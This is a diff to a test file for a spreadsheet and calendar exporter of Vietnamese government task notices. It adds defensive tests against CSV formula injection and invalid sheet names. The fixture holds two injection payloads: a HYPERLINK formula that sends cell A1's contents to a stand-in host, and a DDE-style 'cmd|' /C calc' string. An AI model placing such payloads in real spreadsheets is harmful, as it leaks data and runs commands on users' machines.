@@ -3,6 +3,7 @@
  * export read back with a real reader (csv-parse, exceljs, ical.js, JSON).
  */
 import { readdirSync, readFileSync } from 'node:fs';
+import { unzipSync } from 'fflate';
 import { parse as parseCsv } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import ICAL from 'ical.js';
@@ -24,7 +25,7 @@ import {
   taskStates,
   type Task,
 } from '../src/tasks/index.ts';
-import { csvField } from '../src/tasks/csv.ts';
+import { csvField, neutralizeFormula } from '../src/tasks/csv.ts';
 import { escapeText, foldLine, taskUid } from '../src/tasks/ics.ts';
 import { summarize } from '../src/tasks/text.ts';
 import { sheetName } from '../src/tasks/xlsx.ts';
@@ -383,6 +384,56 @@ describe('XLSX export', () => {
     const long = 'Trung tâm Văn hóa, Thể thao và Truyền thông huyện';
     expect(sheetName(long, taken)).toBe('Trung tâm Văn hóa, Thể thao và…');
     expect(sheetName(long, taken)).toBe('Trung tâm Văn hóa, Thể tha… (2)');
+    expect(sheetName('History', taken)).toBe('History (2)');
+    expect(sheetName(" 'Quote' ", taken)).toBe('Quote');
+    expect(sheetName(`${'x'.repeat(29)}'yyy`, taken)).toBe(`${'x'.repeat(29)}…`);
+    expect(sheetName('😀'.repeat(20), taken)).toBe(`${'😀'.repeat(15)}…`);
+  });
+});
+
+/** The fixture with formula-looking texts and agencies whose names Excel refuses as sheet names. */
+const hostile = fixture
+  .replace("'Báo cáo **kết quả** Chỉ số PCI ([[PCI]]) *đúng hạn*, hoàn thành [[deadline]].'", '\'=HYPERLINK("http://x.invalid/?"&A1,"Bấm") [[deadline]].\'')
+  .replace('Theo dõi, đôn đốc việc thực hiện.', '"@SUM(1+1)*cmd|\' /C calc\'!A0"')
+  .replace('  - agency: Phòng Nội vụ\n', '  - agency: History\n')
+  .replace('    lead: Phòng Tài chính - Kế hoạch\n', "    lead: [\"'Ban: chỉ đạo [x]?'\", 'Trung tâm Văn hóa, Thể thao và Truyền thông huyện A', 'Trung tâm Văn hóa, Thể thao và Truyền thông huyện B', history]\n");
+
+describe('exports of text a spreadsheet would run (OWASP CSV injection)', () => {
+  it('prefixes a quote to fields starting with = + - @, tab or CR, also after spaces; leaves the rest', () => {
+    for (const v of ['=1+1', '+1', '-2', '@SUM(A1)', '\t=1', '\r=1', '  =1', '\u00a0=1', '＝1']) expect(neutralizeFormula(v)).toBe(`'${v}`);
+    for (const v of ['', 'a=1', 'Phòng Nội vụ', '2024-02-29', "'quoted"]) expect(neutralizeFormula(v)).toBe(v);
+  });
+
+  it('CSV: formula-looking cells read back as text with the quote prefix', async () => {
+    const text = (await exporters.csv(sortTasks(tasksOf('conclusions/2024/fixture.yaml', hostile)), ctx)) as string;
+    const rows: Record<string, string>[] = parseCsv(text, { bom: true, columns: true });
+    const cells = rows.flatMap((r) => Object.values(r));
+    expect(cells).toContain(`'=HYPERLINK("http://x.invalid/?"&A1,"Bấm") trong tháng 02/2024.`);
+    expect(cells.some((c) => c.startsWith("'@SUM(1+1)"))).toBe(true);
+    expect(cells.filter((c) => /^[\s\u00a0]*[=+\-@\t\r]/.test(c))).toEqual([]);
+  });
+
+  it('XLSX: the same texts are plain strings, never formulas', async () => {
+    const bytes = (await exporters.xlsx(sortTasks(tasksOf('conclusions/2024/fixture.yaml', hostile)), ctx)) as Uint8Array;
+    const parts = unzipSync(bytes);
+    const sheets = Object.keys(parts).filter((p) => /^xl\/worksheets\/sheet\d+\.xml$/.test(p));
+    expect(sheets.length).toBeGreaterThan(3);
+    for (const p of sheets) expect(new TextDecoder().decode(parts[p])).not.toMatch(/<f[ >]/);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
+    const all = book.getWorksheet('Tất cả')!;
+    const values = all.getRows(2, all.rowCount - 1)!.flatMap((r) => (r.values as unknown[]).slice(1));
+    expect(values).toContain('=HYPERLINK("http://x.invalid/?"&A1,"Bấm") trong tháng 02/2024.');
+  });
+
+  it('XLSX: agencies named History, with [ ] : ? and quotes, or over 31 characters alike get legal, distinct sheets', async () => {
+    const bytes = (await exporters.xlsx(sortTasks(tasksOf('conclusions/2024/fixture.yaml', hostile)), ctx)) as Uint8Array;
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
+    const names = book.worksheets.map((s) => s.name);
+    expect(names).toEqual(expect.arrayContaining(['history (2)', 'History (3)', 'Ban- chỉ đạo -x--', 'Trung tâm Văn hóa, Thể thao và…', 'Trung tâm Văn hóa, Thể tha… (2)']));
+    expect(new Set(names.map((n) => n.toLowerCase())).size).toBe(names.length);
+    expect(names.every((n) => n.length <= 31 && !/[:\\/?*[\]]|^'|'$/.test(n) && n.toLowerCase() !== 'history')).toBe(true);
   });
 });
 
@@ -542,6 +593,27 @@ describe('follow-up report', () => {
     expect(lines(bacSon, signed)).toMatchObject({ from: 'conclusions/2024/a.yaml', signature: { lines: ['KT. CHỦ TỊCH', 'PHÓ CHỦ TỊCH'], name: 'Lê Thị Hoa' } });
     expect(lines(other, signed)).toMatchObject({ from: 'conclusions/2025/d.yaml', signature: { lines: ['TM. ỦY BAN NHÂN DÂN', 'KT. CHỦ TỊCH', 'PHÓ CHỦ TỊCH'] } });
     expect(lines(bacSon, signed.slice(3))).toMatchObject({ from: null, signature: { lines: ['PHÓ CHỦ TỊCH'], name: 'Lê Thị Hoa' } });
+  });
+
+  it("covers one issuer's notices issued by the as-of day: not another body's, not drafts, not later ones", () => {
+    const draft = tasksOf('conclusions/2024/draft.yaml', fixture.replace('number: 7\nissued: 2024-01-10\n', ''));
+    const later = tasksOf('conclusions/2026/later.yaml', fixture.replace('number: 7\nissued: 2024-01-10\n', 'number: 3\nissued: 2026-01-10\n'));
+    const all = sortTasks([...fixtureTasks(), ...exampleTasks(), ...draft, ...later]);
+    const bacSon = fixtureTasks()[0].notice.issuer;
+    expect(new Set(all.map((t) => t.notice.issuer.id))).toEqual(new Set(['ubnd-bac-son', 'vp-ubnd-nam-dinh']));
+    const view = reportView(all, { issuer: bacSon, asOf: '2024-03-15' });
+    expect(view.notices).toEqual([
+      { reference: null, issued: { day: '17', month: '4', year: '2023' } },
+      { reference: '07/TB-UBND', issued: { day: '10', month: '01', year: '2024' } },
+    ]);
+    expect(view.counts.total).toBe(16 + 7);
+    expect(view.tasks.every((t) => t.issued !== null)).toBe(true);
+    expect(view.chairs).toEqual(['Chủ tịch UBND huyện']);
+    const doc = renderReport(all, { issuer: bacSon, asOf: '2024-03-15' }, project.templates);
+    expect(doc.recipients.lines).toEqual(['- Chủ tịch UBND huyện (b/c);', '- Lưu: VT.']);
+    expect(docTexts(doc)[0]).toBe('Thực hiện Thông báo ngày 17/4/2023; Thông báo số 07/TB-UBND ngày 10/01/2024, tình hình thực hiện các nhiệm vụ được giao tính đến ngày 15 tháng 3 năm 2024 như sau:');
+    // As of a day before the fixture was issued, only the 2023 notice counts.
+    expect(reportView(all, { issuer: bacSon, asOf: '2024-01-09' }).notices.map((n) => n.reference)).toEqual([null]);
   });
 
   it('names the agencies an --agency query matched, and leaves a placeholder signature', () => {
